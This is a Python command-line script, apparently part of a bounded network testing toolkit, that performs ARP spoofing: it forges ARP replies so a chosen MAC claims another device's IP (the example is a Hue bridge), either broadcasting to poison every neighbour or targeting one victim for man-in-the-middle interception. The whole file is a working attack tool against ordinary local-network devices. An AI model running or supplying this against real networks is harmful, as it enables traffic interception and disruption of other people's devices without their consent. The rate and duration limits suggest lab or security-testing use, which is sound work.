#!/usr/bin/env python3
"""ARP spoofing: claim someone else's IP (e.g. a device's) for our MAC with forged ARP replies.

Without --victim the replies are gratuitous (broadcast, target IP = claimed IP), poisoning every
neighbour; with --victim IP they are unicast replies to that host only (classic MITM poisoning).
"""
from __future__ import annotations

import itertools
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from tblib import bounds, packets  # noqa: E402


def main() -> None:
    p = bounds.parser(__doc__.splitlines()[0], count=5, duration=10.0)
    p.add_argument("--claim-ip", required=True, help="the IP to steal, e.g. 192.0.2.10 (the Hue bridge)")
    p.add_argument("--mac", help="MAC to bind it to (default: our own interface MAC)")
    p.add_argument("--victim", help="poison only this host (unicast reply); default: gratuitous broadcast")
    packets.add_raw_args(p, rate=10.0)
    args = p.parse_args()
    iface, sock, victim_mac = packets.raw_setup(args, args.victim)
    mac = packets.mac_bytes(args.mac) if args.mac else packets.iface_mac(iface)
    claim = packets.ip_bytes(args.claim_ip)
    if args.victim:
        frame = packets.arp(2, mac, claim, victim_mac, packets.ip_bytes(args.victim))
    else:
        frame = packets.arp(2, mac, claim, packets.BROADCAST, claim, eth_dst=packets.BROADCAST)
    result = packets.blast(sock, itertools.repeat(frame), args.count, bounds.Deadline(args.duration), args.rate)
    bounds.emit({"tool": "arp_spoof", "claimIp": args.claim_ip, "mac": packets.mac_text(mac),
                 "victim": args.victim or "broadcast", **result})


if __name__ == "__main__":
    main()
